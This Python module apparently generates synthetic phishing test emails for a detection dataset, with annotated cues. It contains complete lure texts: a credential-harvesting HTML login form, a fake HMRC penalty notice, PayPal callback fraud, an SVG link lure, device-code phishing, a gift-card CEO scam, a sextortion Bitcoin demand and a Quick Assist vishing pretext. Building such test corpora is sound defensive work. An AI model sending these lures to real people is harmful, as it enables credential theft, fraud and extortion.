"""English attack messages (09-16)."""
from common import (thread_index, A, Multi, P, Part, addr, assemble, boundary, esc, hdr_text, html_page,
                    register, simple_html, T, plus, fmt)
import banking as B
import senders as S
from infra import TLS12


def fake_login_html(title, brand, action, email, note, lang="en", charset="utf-8",
                    pwd_label="Password", btn="Sign in", heading=None):
    """Inert look-alike login page: a plain form, no script at all."""
    return html_page("""<div style="max-width:420px;margin:60px auto;font-family:Segoe UI,Arial,sans-serif;border:1px solid #ddd;padding:32px;box-shadow:0 2px 6px rgba(0,0,0,.2)">
<div style="font-size:22px;font-weight:600;margin-bottom:6px">%s</div>
<div style="color:#555;font-size:14px;margin-bottom:18px">%s</div>
<form method="post" action="%s">
<input type="hidden" name="src" value="%s">
<input type="email" name="login" value="%s" style="width:100%%;padding:8px;margin:6px 0;border:0;border-bottom:1px solid #666">
<input type="password" name="passwd" placeholder="%s" style="width:100%%;padding:8px;margin:6px 0 18px 0;border:0;border-bottom:1px solid #666">
<button type="submit" style="background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right">%s</button>
</form>
<div style="clear:both;font-size:12px;color:#777;padding-top:20px">%s</div>
</div>""" % (esc(heading or brand), esc(title), action, brand.lower().replace(" ", "-"), email, esc(pwd_label),
             esc(btn), esc(note)), charset, "<title>%s</title>\n" % esc(title), lang)


@register("attack", 9, "en", "docusign-html-attachment",
          "Fake DocuSign 'Completed' notice for the Holloway fleet lease with an HTML attachment that renders a Microsoft sign-in form pre-filled with the recipient's address.",
          "Sent from a compromised joinery's cPanel mailbox (kingsheathjoinery.co.uk) with display name 'Docusign'; real DocuSign mail comes from docusign.net and never attaches HTML; the attachment posts credentials to docusign-view.eu-secure-docs.com. Hard negative: business 09.")
def a09(r):
    t = T(2026, 11, 25, 10, 44, 3, "UK")
    rcpt = P("uk_mgr").addr
    prof = S.cpanel(r, t, rcpt, "server217.web-hosting.com", "198.54.115.217", "105.112.96.41",
                    "accounts@kingsheathjoinery.co.uk", "kingsheathjoinery.co.uk", mua="phpmailer", zone="UK")
    att = fake_login_html("Sign in to view the completed document", "Microsoft",
                          "https://docusign-view.eu-secure-docs.com/c/submit.php", rcpt,
                          "Document: Completed_HBS_Fleet_Lease_Schedule_3.pdf (214 KB) - protected by Microsoft 365 and Docusign",
                          heading="Microsoft")
    text = """Docusign

Priya Shah has completed the envelope "HBS - Fleet Lease Schedule 3 (12 x Ford Transit Custom)".

All parties have signed. The completed document is attached to this email for your records.

Envelope ID: 7F3C2A91-55E0-4B7D-9C1E-0A8D6B2F4E13

Do not share this email
This email contains a secure document. Please do not share this email, link or access code with others.

About Docusign
Sign documents electronically in just minutes. It's safe, secure and legally binding.
"""
    html = html_page("""<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif"><tr><td align="center" style="padding:20px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:24px 24px 0 24px;font-size:20px;font-weight:bold;color:#000">Docusign</td></tr>
<tr><td style="padding:20px 24px"><table width="100%" style="background:#1e4ca1;color:#fff"><tr><td align="center" style="padding:26px;font-size:16px">
<div style="font-size:36px">&#10004;</div>Your document has been completed</td></tr></table></td></tr>
<tr><td style="padding:0 24px 20px 24px;font-size:15px;color:#333;line-height:22px">
Priya Shah has completed the envelope <b>&quot;HBS - Fleet Lease Schedule 3 (12 x Ford Transit Custom)&quot;</b>.<br><br>
All parties have signed. The completed document is attached to this email for your records - open the attachment to view it.</td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:12px;color:#666"><b>Do not share this email</b><br>This email contains a secure document. Please do not share this email, link or access code with others.<br><br>Envelope ID: 7F3C2A91-55E0-4B7D-9C1E-0A8D6B2F4E13</td></tr>
</table></td></tr></table>""")
    alt = Multi("alternative", [Part("text/plain", text, "UTF-8", "quoted-printable"),
                                Part("text/html", html, "UTF-8", "quoted-printable")], boundary(r, "phpmailer"))
    body = Multi("mixed", [alt, Part("text/html", att, "UTF-8", "base64",
                                     filename="Completed_HBS_Fleet_Lease_Schedule_3.html")],
                 boundary(r, "phpmailer"), preamble="This is a multi-part message in MIME format.")
    hdrs = [("Date", prof["date"]), ("To", addr("James Whitfield", rcpt)),
            ("From", addr("Docusign via Holloway Building Services", "accounts@kingsheathjoinery.co.uk")),
            ("Reply-To", addr("Docusign", "no-reply@docusign-view.eu-secure-docs.com")),
            ("Subject", "Completed: HBS - Fleet Lease Schedule 3 (12 x Ford Transit Custom)"),
            ("Message-ID", prof["mid"]), ("X-Mailer", "PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)"),
            ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, body, env="accounts@kingsheathjoinery.co.uk")


@register("attack", 10, "en", "hmrc-vat-penalty",
          "Fake HMRC notice: penalty point and £200 penalty for a late VAT return; 'sign in to your business tax account' to review or appeal.",
          "HMRC does not e-mail penalty links; sender hmrc-vatservices.co.uk via Mailgun, link hidden behind Mailgun click-tracking to a Government-Gateway look-alike; the UK VAT return for 09/26 was filed on time (see business 13).")
def a10(r):
    t = T(2026, 11, 10, 6, 58, 31, "UK")
    rcpt = P("uk_acc").addr
    prof = S.mailgun(r, t, rcpt, "mg.hmrc-vatservices.co.uk")
    link = "https://email.mg.hmrc-vatservices.co.uk/c/eJx" + r.alnum(150, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
    text = """GOV.UK
HM Revenue & Customs

VAT Registration Number: GB 318 4472 96
Business name: EXAMPLE GROUP UK LTD

Dear Customer,

You have received a penalty point because your VAT Return for the period ending 30 September 2026 was not received by the deadline of 7 November 2026.

As your business has now reached the penalty threshold of 4 points, a financial penalty of £200 has been charged. Late payment interest is being applied to the outstanding balance from the day after the due date.

You can view the penalty, the outstanding amount and your appeal options in your HMRC business tax account:

%s

If you think this penalty is wrong, you must appeal within 30 days of the date of this notice.

Yours faithfully

Customer Compliance Group
HM Revenue and Customs
""" % link
    html = html_page("""<div style="background:#0b0c0c;padding:10px 20px"><span style="color:#fff;font-family:Arial,sans-serif;font-size:28px;font-weight:bold">GOV.UK</span></div>
<div style="max-width:640px;padding:20px;font-family:Arial,sans-serif;font-size:19px;color:#0b0c0c;line-height:1.3">
<p style="border-left:6px solid #1d70b8;padding-left:12px;font-size:16px">HM Revenue &amp; Customs<br>VAT Registration Number: GB 318 4472 96<br>Business name: EXAMPLE GROUP UK LTD</p>
<p>Dear Customer,</p>
<p>You have received a penalty point because your VAT Return for the period ending 30 September 2026 was not received by the deadline of 7 November 2026.</p>
<p>As your business has now reached the penalty threshold of 4 points, a financial penalty of <b>&pound;200</b> has been charged. Late payment interest is being applied to the outstanding balance from the day after the due date.</p>
<p><a href="%s" style="color:#1d70b8">Sign in to your HMRC business tax account</a> to view the penalty and your appeal options.</p>
<p>If you think this penalty is wrong, you must appeal within 30 days of the date of this notice.</p>
<p>Yours faithfully<br><br>Customer Compliance Group<br>HM Revenue and Customs</p></div>
<img width="1" height="1" alt="" src="https://email.mg.hmrc-vatservices.co.uk/o/eJx%s">""" % (link, r.alnum(90)))
    alt = Multi("alternative", [Part("text/plain", text, "utf-8", "quoted-printable"),
                                Part("text/html", html, "utf-8", "quoted-printable")], boundary(r, "sendgrid")[:32])
    hdrs = [("Mime-Version", "1.0"), ("Subject", "VAT: penalty point and late payment interest - period 09/26"),
            ("From", addr("HM Revenue & Customs", "noreply@hmrc-vatservices.co.uk")),
            ("To", rcpt), ("Date", prof["date"]), ("Message-Id", prof["mid"])]
    return assemble(r, prof, rcpt, hdrs, alt)


@register("attack", 11, "en", "paypal-invoice-callback",
          "Callback phishing (TOAD) through genuine PayPal invoicing: 'Geek Squad Protection' invoice for £449.99 with a 'call to cancel' phone number in the seller note.",
          "Abuses the real PayPal infrastructure (so the sender is technically authentic); no relationship with the 'merchant'; the only call to action is a phone number, where a fake agent talks the victim into remote access or a 'refund'.")
def a11(r):
    t = T(2026, 10, 22, 16, 20, 11, "UK")
    rcpt = P("uk_acc").addr
    prof = S.paypal(r, t, rcpt)
    inv = "INV2-7XKQ-4LZD-%s-%s" % (r.alnum(4, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"), r.alnum(4, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"))
    note = ("Your annual Geek Squad Total Tech Support plan has been renewed automatically. The amount of £449.99 "
            "will be debited within 24 hours. If you did not authorise this renewal, call our billing desk on "
            "+44 20 3808 4417 (Mon-Sat 8am-8pm) to cancel and receive a full refund.")
    text = """Geek Squad Protection Plans sent you an invoice for £449.99 GBP

Due on receipt

Note from seller:
%s

Invoice details
Amount requested: £449.99 GBP
Invoice number: 0008841
Items: Total Tech Support - Annual (3 devices)

View and Pay Invoice:
https://www.paypal.com/invoice/p/#%s

Don't recognise this invoice? Before you pay, make sure you recognise this invoice. If you don't, report it.

PayPal
""" % (note, inv)
    html = html_page("""<table width="100%%" cellpadding="0" cellspacing="0" style="font-family:Helvetica Neue,Arial,sans-serif;background:#f5f7fa"><tr><td align="center" style="padding:24px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:6px">
<tr><td style="padding:24px 32px 0 32px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="40" alt="PayPal"></td></tr>
<tr><td style="padding:18px 32px;font-size:24px;color:#000">Geek Squad Protection Plans sent you an invoice for £449.99 GBP</td></tr>
<tr><td style="padding:0 32px;font-size:15px;color:#333">Due on receipt</td></tr>
<tr><td style="padding:18px 32px;font-size:15px;color:#333"><b>Note from seller</b><br>%s</td></tr>
<tr><td style="padding:0 32px 18px 32px"><a href="https://www.paypal.com/invoice/p/#%s" style="background:#003087;color:#fff;padding:12px 28px;border-radius:24px;text-decoration:none;font-weight:bold">View and Pay Invoice</a></td></tr>
<tr><td style="padding:0 32px 24px 32px;font-size:13px;color:#666">Invoice number 0008841 &middot; Total Tech Support - Annual (3 devices)<br><br>Don't recognise this invoice? Before you pay, make sure you recognise this invoice. If you don't, report it.</td></tr>
</table></td></tr></table>""" % (esc(note), inv))
    alt = Multi("alternative", [Part("text/plain", text, "UTF-8", "quoted-printable"),
                                Part("text/html", html, "UTF-8", "base64")], boundary(r, "javamail"))
    hdrs = [("Date", prof["date"]), ("Message-ID", prof["mid"]),
            ("From", addr("PayPal", "service@paypal.co.uk")), ("To", rcpt),
            ("Subject", hdr_text("Invoice from Geek Squad Protection Plans (0008841)", "UTF-8")),
            ("MIME-Version", "1.0"), ("X-Email-Type-Id", "PPX000659"),
            ("X-MaxCode-Template", "PPX000659"), ("PP-Correlation-Id", r.hex(13))]
    return assemble(r, prof, rcpt, hdrs, alt, env=prof["env"])


SVG_TMPL = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="620" height="420" viewBox="0 0 620 420">
<rect width="620" height="420" fill="#f3f3f3"/>
<rect x="40" y="30" width="540" height="360" fill="#ffffff" stroke="#cfcfcf"/>
<text x="70" y="80" font-family="Arial" font-size="22" font-weight="bold" fill="#1f3864">PAYMENT ADVICE</text>
<text x="70" y="115" font-family="Arial" font-size="14" fill="#333">Payer: Coventry Panel &amp; Paint Ltd</text>
<text x="70" y="138" font-family="Arial" font-size="14" fill="#333">Payee: Example Group UK Ltd</text>
<text x="70" y="161" font-family="Arial" font-size="14" fill="#333">Reference: 88213 / BACS</text>
<text x="70" y="184" font-family="Arial" font-size="14" fill="#333">Amount: GBP 14,280.00</text>
<rect x="70" y="210" width="480" height="70" fill="#eef3fb" stroke="#b4c7e7"/>
<text x="90" y="240" font-family="Arial" font-size="13" fill="#333">This remittance is protected. Open the secure view to see the</text>
<text x="90" y="260" font-family="Arial" font-size="13" fill="#333">invoice breakdown and confirm receipt with your Microsoft 365 account.</text>
<a xlink:href="%s" target="_blank">
<rect x="200" y="305" width="220" height="44" rx="4" fill="#0078d4"/>
<text x="310" y="333" font-family="Arial" font-size="16" fill="#ffffff" text-anchor="middle">View Remittance</text>
</a>
</svg>
"""


@register("attack", 12, "en", "svg-remittance-advice",
          "'Remittance advice' from a body shop's compromised Microsoft 365 mailbox with an SVG attachment that links to a fake secure-view/M365 page.",
          "SVG as an attachment for a remittance is abnormal; the SVG contains a clickable link to remit-view.sharepoint-docs.co with the recipient's address; payer is no known customer; sent from a compromised third-party tenant.")
def a12(r):
    t = T(2026, 11, 30, 11, 12, 40, "UK")
    rcpt = P("uk_acc").addr
    prof = S.o365(r, t, rcpt, "gbr", tenant=r.uuid(), pfx="LO4P265MB", prod="GBRP265")
    url = "https://remit-view.sharepoint-docs.co/r/88213?e=sarah.collins%40example.com"
    svg = SVG_TMPL % url
    text = """Hi,

Please find attached remittance advice for the payment made today against your outstanding invoices.

Kind regards,

Accounts Team
Coventry Panel & Paint Ltd
"""
    html = """<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=us-ascii">
</head>
<body>
<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Hi,<br><br>Please find attached remittance advice for the payment made today against your outstanding invoices.<br><br>Kind regards,<br><br>Accounts Team<br>Coventry Panel &amp; Paint Ltd</div>
</body>
</html>
"""
    alt = Multi("alternative", [Part("text/plain", text, "us-ascii", "7bit"),
                                Part("text/html", html, "us-ascii", "7bit")], boundary(r, "exchange", 0))
    body = Multi("mixed", [alt, Part("image/svg+xml", svg.encode("utf-8"), filename="Remittance_Advice_88213.svg")],
                 boundary(r, "exchange", 4))
    hdrs = [("From", addr("Accounts Team", "accounts@coventrypanelpaint.co.uk")),
            ("To", addr("Sarah Collins", rcpt)), ("Subject", "Remittance Advice - Payment Ref 88213"),
            ("Thread-Topic", "Remittance Advice - Payment Ref 88213"),
            ("Thread-Index", thread_index(r, t)),
            ("Date", prof["date"]), ("Message-ID", prof["mid"]),
            ("Accept-Language", "en-GB, en-US"), ("Content-Language", "en-GB"),
            ("X-MS-Has-Attach", "yes"), ("X-MS-TNEF-Correlator", ""), ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, body, env="accounts@coventrypanelpaint.co.uk")


@register("attack", 13, "en", "device-code-carrier-lookalike",
          "Device-code phishing: 'Gary Dawson' of the UK carrier shares a rate card 'via Teams' and asks to enter a code at microsoft.com/devicelogin.",
          "Look-alike domain midlandsvl-co.uk (real: midlandsvl.co.uk) on an attacker Microsoft 365 tenant; the genuine devicelogin URL is used to make the victim authorise the attacker's session (OAuth device-code flow); 15-minute validity pressure. Hard negative: business 12 (real Teams invite from Gary).")
def a13(r):
    t = T(2026, 11, 12, 9, 27, 15, "UK")
    rcpt = P("uk_mgr").addr
    prof = S.o365(r, t, rcpt, "gbr", tenant=r.uuid(), pfx="CWXP265MB", prod="GBRP265")
    text = """Morning James,

Ahead of next week's review I've shared the Q1 2027 rate card and the revised collection schedule for the Castle Bromwich and Solihull runs in our secure Teams workspace.

Because the file contains pricing, our IT have set it up with device sign-in. To open it:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: HQ7T4KZRW
3. Sign in with your Example Group Microsoft account

The code is only valid for 15 minutes, so if it's expired just reply and I'll send a fresh one.

Cheers,
Gary

Gary Dawson
Account Manager
Midlands Vehicle Logistics Ltd
Unit 7, Torrington Avenue, Coventry CV4 9AQ
T: 024 7646 2210 | M: 07700 900382
"""
    html = """<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>
</head>
<body dir="ltr">
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 11pt; color: rgb(0, 0, 0);">
%s</div>
</body>
</html>
""" % "<br>\n".join(esc(l) if "devicelogin" not in l else '1. Go to <a href="https://microsoft.com/devicelogin">https://microsoft.com/devicelogin</a>' for l in text.split("\n"))
    alt = Multi("alternative", [Part("text/plain", text, "utf-8", "quoted-printable"),
                                Part("text/html", html, "utf-8", "quoted-printable")], boundary(r, "exchange", 0))
    hdrs = [("From", addr("Gary Dawson", "gary.dawson@midlandsvl-co.uk")),
            ("To", addr("James Whitfield", rcpt)),
            ("Subject", "Q1 2027 rate card & collection schedule - shared via Teams"),
            ("Thread-Topic", "Q1 2027 rate card & collection schedule - shared via Teams"),
            ("Thread-Index", thread_index(r, t)),
            ("Date", prof["date"]), ("Message-ID", prof["mid"]),
            ("Accept-Language", "en-GB, en-US"), ("Content-Language", "en-GB"),
            ("X-MS-Has-Attach", ""), ("X-MS-TNEF-Correlator", ""), ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, alt, env="gary.dawson@midlandsvl-co.uk")


@register("attack", 14, "en", "ceo-gift-cards-gmail",
          "Gift-card scam: 'Matthias Köhler' from a Gmail address asks the UK office manager to buy eight £200 Apple gift cards discreetly and send photos of the codes.",
          "CEO display name on a free Gmail address, 'in a board meeting, can't take calls', secrecy, gift cards as payment, codes requested by photo; the genuine voucher process runs through an approved supplier and PO (business 14).")
def a14(r):
    t = T(2026, 12, 11, 8, 52, 37, "UK")
    rcpt = P("uk_mgr").addr
    prof = S.gmail(r, t, rcpt)
    prof["date"] = fmt(t, "UK")
    text = """Hi James,

Are you at your desk? I need you to handle something for me discreetly today. I'm in back-to-back meetings with the advisory board and can't take calls.

I want to surprise a few of our best fleet customers in the UK before Christmas. Please pick up 8 Apple gift cards at £200 each (Tesco or Sainsbury's will have them). Keep the receipt and claim it back through expenses, I'll approve it.

Once you have them, scratch the back, take a clear photo of each card showing the code and send them to me here. Please don't mention it to anyone yet, it's meant to be a surprise.

Thanks,
Matthias

Sent from my iPhone
"""
    alt = Multi("alternative", [Part("text/plain", text, "UTF-8", "quoted-printable"),
                                Part("text/html", simple_html(text), "UTF-8", "quoted-printable")], boundary(r, "gmail"))
    hdrs = [("MIME-Version", "1.0"), ("From", addr("Matthias Köhler", "mkoehler.examplegroup@gmail.com", "UTF-8", "B")),
            ("Date", prof["date"]), ("Message-ID", prof["mid"]), ("Subject", "Quick favour"),
            ("To", addr("James Whitfield", rcpt))]
    return assemble(r, prof, rcpt, hdrs, alt, env="mkoehler.examplegroup@gmail.com")


@register("attack", 15, "en", "sextortion-bitcoin",
          "Extortion: claims the recipient's device and mailbox were hacked and compromising video recorded; demands USD 1,450 in Bitcoin within 48 hours.",
          "From/To both spoofed as the victim's own address, sent directly from a compromised Brazilian host; classic sextortion template with a (checksum-valid) bech32 Bitcoin address; no real compromise.")
def a15(r):
    t = T(2026, 10, 17, 3, 14, 52, "BR")
    rcpt = P("uk_mgr").addr
    btc = B.btc_addresses("audit57-extortion")["bech32"]
    from infra import fmt as _f
    prof = dict(mx=("mail.construtoraplanalto.com.br", "200-155-17-98.static.ctbctelecom.com.br", "200.155.17.98"),
                hops=[], trace=[], tail=[], tmx=plus(t, 6), env=rcpt, tls=TLS12,
                mid="<%s@example.com>" % r.alnum(20, "abcdefghijklmnopqrstuvwxyz0123456789"), date=_f(t, "BR"))
    text = """Hello!

I have to share bad news with you.
Approximately few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

Here is the sequence of events:
Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase it online).
Obviously, I have easily managed to log in to your email account (%s).

One week later, I have already installed Trojan virus to Operating Systems of all the devices that you use to access your email.
In fact, it was not really hard at all (since you were following the links from your inbox emails).
All ingenious is simple. =)

This software provides me with access to all the controllers of your devices (e.g., your microphone, video camera and keyboard).
I have downloaded all your information, data, photos, web browsing history to my servers.
I have access to all your messengers, social networks, emails, chat history and contacts list.

I have made a video showing you on the left side of the screen, and the video that you were watching at that moment on the right side.
With one click of my mouse, I can send this video to all your emails and contacts on social networks, including your colleagues at work.

I think you don't want this to happen.
Just transfer $1450 USD to my Bitcoin wallet (if you don't know how to do this, just open Google and search: "Buy Bitcoin").

My Bitcoin wallet (BTC Wallet) is: %s

After receiving the payment, I will delete the video right away, and you will never hear from me again.
I give you 48 hours (2 days) to make the payment.
You will receive a notification once you open this email, and the timer starts.

Filing a complaint somewhere does not make sense because this email cannot be tracked like my bitcoin address.
I do not make any mistakes.

If I find out that you have shared this message with someone else, the video will be immediately distributed.

Best regards!
""" % (rcpt, btc)
    body = Part("text/plain", text, "us-ascii", "7bit")
    hdrs = [("From", rcpt), ("To", rcpt),
            ("Subject", "Security Notice: %s has been hacked. Password must be changed." % rcpt),
            ("Date", prof["date"]), ("Message-ID", prof["mid"]), ("MIME-Version", "1.0"),
            ("X-Priority", "3")]
    return assemble(r, prof, rcpt, hdrs, body, env=rcpt)


@register("attack", 16, "en", "teams-helpdesk-quickassist",
          "Vishing pretext: fake 'IT Service Desk' warns of a mail-bombing attack and announces a Teams call from an external 'Microsoft support engineer' who will start Quick Assist.",
          "Sent from an external tenant examplegroupsupport.onmicrosoft.com impersonating internal IT; prepares a Teams call to obtain remote access via Quick Assist (the Storm-1811/Black Basta playbook); Example Group IT never uses external callers (see business 04/16).")
def a16(r):
    t = T(2026, 12, 1, 13, 5, 9, "UK")
    rcpt = P("uk_acc").addr
    prof = S.o365(r, t, rcpt, "nam", tenant=r.uuid(), pfx="SA1PR12MB", prod="namprd12")
    text = """Hi Sarah,

Over the last 30 minutes our monitoring has detected an unusually high number of newsletter and subscription messages being delivered to your mailbox. This is a known type of attack (mail bombing) that is used to hide important security messages.

We are filtering the messages now. To complete the clean-up, an engineer from our Microsoft 365 support partner will call you on Microsoft Teams within the next 15-30 minutes. The caller will appear as "IT Service Desk (External)".

Please accept the call and follow the engineer's instructions to start a Quick Assist session (press Windows key + Ctrl + Q) so the filter rule can be applied to your Outlook profile. The session takes about 10 minutes. Please do not restart your computer in the meantime.

Ticket: INC0048817
Priority: High

Kind regards,
IT Service Desk
Example Group
"""
    html = """<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
</head>
<body>
<table width="640" cellpadding="0" cellspacing="0" style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<tr><td style="background:#243a5e;color:#fff;padding:14px 20px;font-size:18px">IT Service Desk &middot; Example Group</td></tr>
<tr><td style="padding:18px 20px;line-height:21px">%s</td></tr>
</table>
</body>
</html>
""" % "<br>\n".join(esc(l) for l in text.split("\n"))
    alt = Multi("alternative", [Part("text/plain", text, "utf-8", "7bit"),
                                Part("text/html", html, "utf-8", "quoted-printable")], boundary(r, "exchange", 0))
    hdrs = [("From", addr("Example Group IT Service Desk", "servicedesk@examplegroupsupport.onmicrosoft.com")),
            ("To", addr("Sarah Collins", rcpt)),
            ("Subject", "INC0048817: Unusual volume of incoming mail on your mailbox - IT will contact you via Teams"),
            ("Thread-Topic", "INC0048817: Unusual volume of incoming mail on your mailbox - IT will contact you via Teams"),
            ("Thread-Index", thread_index(r, t)),
            ("Date", prof["date"]), ("Message-ID", prof["mid"]), ("Importance", "high"), ("X-Priority", "1"),
            ("Accept-Language", "en-US"), ("Content-Language", "en-US"),
            ("X-MS-Has-Attach", ""), ("X-MS-TNEF-Correlator", ""), ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, alt, env="servicedesk@examplegroupsupport.onmicrosoft.com")
